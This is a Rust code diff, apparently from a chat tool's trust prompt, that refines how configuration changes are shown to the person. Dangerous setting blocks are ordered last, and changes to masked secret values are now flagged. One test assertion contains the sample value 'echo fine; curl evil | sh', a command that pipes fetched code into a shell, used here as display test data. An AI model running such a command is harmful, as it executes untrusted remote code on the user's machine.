@@ -57,8 +57,8 @@ pub(super) fn load(
     begin(args, Some, may_ask(args), disk, output)
 }
 
-/// Loads, settles what needs trust of what `wanted` leaves of it, and shows the warnings. An empty `./data` is the person's
-/// own from the first run on that keeps something in it.
+/// Loads, settles what needs trust of what `wanted` leaves of it, and shows the warnings. An empty `./data` is the
+/// person's own from the first run on that keeps something in it.
 fn begin(
     args: &ChatArgs,
     wanted: fn(TrustRequest) -> Option<TrustRequest>,
@@ -273,14 +273,19 @@ fn difference(configuration: &Configuration) -> Vec<String> {
     if before.is_empty() {
         return all("");
     }
-    let went = before.iter().filter(|key| !keys.contains(key));
-    let came = keys.iter().filter(|key| !before.contains(key));
+    let is_among = |key: &DemandedKey, others: &[DemandedKey]| {
+        others.iter().any(|other| key.is_shown_as(other))
+    };
+    let went = before.iter().filter(|key| !is_among(key, keys));
+    let came = keys.iter().filter(|key| !is_among(key, before));
+    let masked = keys.iter().filter(|key| key.is_masked_anew(before));
     let changes: Vec<Setting<'_>> = went
         .map(|key| Setting::changed("- ", key, keys))
         .chain(came.map(|key| Setting::changed("+ ", key, before)))
+        .chain(masked.map(Setting::masked_anew))
         .collect();
     if changes.is_empty() {
-        // Secrets are masked, and the file may have moved.
+        // The file may have moved.
         return all("~ ");
     }
     shortened(changes)
@@ -288,7 +293,7 @@ fn difference(configuration: &Configuration) -> Vec<String> {
 
 /// A key of a question.
 struct Setting<'a> {
-    /// `+ ` of one that came, `- ` of one that went.
+    /// `+ ` of one that came, `- ` of one that went, `~ ` of one that shows no difference.
     sign: &'static str,
     key: &'a DemandedKey,
     value: String,
@@ -301,6 +306,12 @@ impl<'a> Setting<'a> {
             key,
             value: cut(&key.value, VALUE_MAX),
         }
+    }
+
+    fn masked_anew(key: &'a DemandedKey) -> Self {
+        let Self { sign, key, value } = Self::whole("~ ", key);
+        let value = format!("{value} (the hidden part changed)");
+        Self { sign, key, value }
     }
 
     /// Of two long values that begin alike, each is shown from a little before the place where they part.
@@ -326,8 +337,8 @@ impl<'a> Setting<'a> {
     }
 }
 
-/// Blocks of settings that choose what runs, who is asked, and what is read or kept; the worst come last, right above the
-/// question.
+/// Blocks of settings that choose what runs, who is asked, and what is read or kept; the worst come last, right above
+/// the question.
 const DANGEROUS: [&str; 12] = [
     "models",
     "system_prompt_file",
@@ -358,8 +369,8 @@ const MISTAKE_MAX: usize = 300;
 /// Names of rule files that are shown.
 const FILES_MAX: usize = 10;
 
-/// Shows the harmless first and the dangerous last; each dangerous block has its share of the lines, so that none is pushed out
-/// by another, and of what is left out it is said where it belongs and how much it is.
+/// Shows the harmless first and the dangerous last; each dangerous block has its share of the lines, so that none is
+/// pushed out by another, and of what is left out it is said where it belongs and how much it is.
 fn shortened(settings: Vec<Setting<'_>>) -> Vec<String> {
     let of_block = |key: &DemandedKey, block: &str| {
         let rest = key.key.strip_prefix(block);
@@ -458,6 +469,7 @@ mod tests {
         DemandedKey {
             key: key.to_owned(),
             value: value.to_owned(),
+            digest: String::new(),
         }
     }
 
@@ -483,6 +495,10 @@ mod tests {
         assert!(shown.ends_with("echo fine; curl evil | sh\"]"), "{shown}");
         configuration.before = configuration.keys.clone();
         assert!(difference(&configuration)[0].starts_with("    ~ a: 1"));
+        configuration.keys[0].digest = "1".to_owned();
+        configuration.before[0].digest = "2".to_owned();
+        let shown = difference(&configuration);
+        assert_eq!(shown, ["    ~ a: 1 (the hidden part changed)"]);
     }
 
     #[test]
